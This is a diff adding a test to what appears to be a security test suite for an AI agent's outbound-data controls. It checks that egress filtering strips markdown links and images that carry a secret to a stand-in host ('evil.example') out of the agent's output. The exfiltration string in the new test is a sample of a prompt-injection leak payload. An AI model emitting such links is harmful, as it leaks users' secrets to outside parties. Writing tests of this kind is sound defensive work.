@@ -183,6 +183,23 @@ describe('out of a session that has read a secret and a stranger’s mail', () =
   });
 });
 
+describe('out of an argument that nobody has read', () => {
+  test('FLOW-6: C7-exfil-001 and -003 the links of a stranger do not leave with it; what stays in the house is as it was', async () => {
+    const words = `See [click](https://evil.example/?d=${secret}) ![a](https://evil.example/?q=QUFB)`;
+    for (const egress of [false, true]) {
+      const { tools, gone } = actorTools({ effect: 'send', egress, control: [] });
+      await using t = await acting({
+        tools,
+        work: async (order, session, { out }) => void (await session.call(out, { text: order.material[0]!.text })),
+      });
+      await t.forward(words);
+      expect(gone).toHaveLength(1);
+      if (egress) expect(gone[0]).not.toMatch(/evil|https|4711/);
+      else expect(gone).toEqual([words]);
+    }
+  });
+});
+
 describe('what always asks', () => {
   test(`GATE-2: ${titled('014')}: a push asks, even of an agent that has read nothing`, async () => {
     const push = { branch: `feature/${secret}`, message: secret };
